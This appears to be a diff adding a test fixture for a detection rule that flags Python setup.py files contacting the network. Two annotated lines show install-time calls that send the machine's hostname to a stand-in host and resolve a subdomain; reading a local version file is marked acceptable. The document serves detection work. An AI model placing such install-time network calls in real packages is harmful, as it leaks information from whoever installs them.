@@ -1,0 +1,13 @@
+import socket
+import urllib.request
+
+import setuptools
+
+# ruleid: python-setup-talks-to-network
+urllib.request.urlopen("https://c.example.net/?h=" + socket.gethostname())
+# ruleid: python-setup-talks-to-network
+socket.gethostbyname("a.c.example.net")
+# ok: python-setup-talks-to-network
+version = open("VERSION").read()
+
+setuptools.setup(name="shop", version=version)
